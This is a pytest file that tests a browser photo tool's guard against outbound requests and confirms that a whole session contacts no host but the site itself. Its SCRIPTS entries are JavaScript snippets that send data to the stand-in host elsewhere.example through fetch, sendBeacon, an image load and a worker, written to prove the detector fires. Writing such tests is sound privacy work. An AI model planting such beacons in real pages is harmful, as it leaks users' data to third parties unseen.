"""That the watch over stray requests can catch one: a proof of nothing would prove nothing."""

from __future__ import annotations

from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest

from .conftest import PHOTOS
from .servers import PLAIN, Site
from .trap import Trap
from .visitor import Visitor

if TYPE_CHECKING:
    from pathlib import Path

    from .fleet import Fleet

FETCH = "fetch('http://elsewhere.example/x').catch(() => 0)"
SCRIPTS = {
    "a fetch": FETCH,
    "a beacon": "navigator.sendBeacon('http://elsewhere.example/x', 'photo')",
    "a picture": "void (new Image().src = 'http://elsewhere.example/x.png')",
    "a worker's fetch": f"void new Worker(URL.createObjectURL(new Blob([`{FETCH}`])))",
}


@pytest.mark.parametrize("script", SCRIPTS.values(), ids=SCRIPTS.keys())
def test_caught(fleet: Fleet, tmp_path: Path, script: str) -> None:
    (tmp_path / "index.html").write_text("<!doctype html><title>loose</title>")
    with Trap() as trap, Site(tmp_path, PLAIN) as site:
        browser = fleet.start(trap.url)
        try:
            visitor = Visitor(browser.new_context(), site)
            visitor.page.goto(site.url)
            assert trap.caught == []
            visitor.page.evaluate(script)
            assert trap.wait(1)
            # Playwright hears of a worker's request in its own time.
            for _ in range(100):
                if any("elsewhere.example" in url for url in visitor.asked):
                    break
                visitor.page.wait_for_timeout(100)
        finally:
            browser.close()
        assert "elsewhere.example" in trap.caught[0]
        assert any("elsewhere.example" in url for url in visitor.asked)


def test_a_whole_session_asks_nobody_else(tiny: Visitor, trap: Trap) -> None:
    """All that a person does in a visit, a second one included: by what the browser says that it
    asked for, by what reached the server, and by what reached the way out of this machine."""
    tiny.open()
    tiny.cut(PHOTOS / "astronaut.jpg")
    tiny.page.locator("#engine summary").click()
    tiny.page.keyboard.press("Escape")
    tiny.page.locator("#checks-more summary").click()
    with tiny.page.expect_download():
        tiny.page.locator("#download").click()
    tiny.drop(PHOTOS / "rocket.jpg")
    tiny.wait("working", "improving")
    tiny.file()
    tiny.open("?model=modnet")
    tiny.cut(PHOTOS / "coffee.jpg")
    assert {urlsplit(url).netloc for url in tiny.asked if url.startswith("http")} == {
        urlsplit(tiny.site.url).netloc
    }
    assert {(entry.method, entry.body) for entry in tiny.site.seen()} == {("GET", b"")}
    assert trap.caught == []
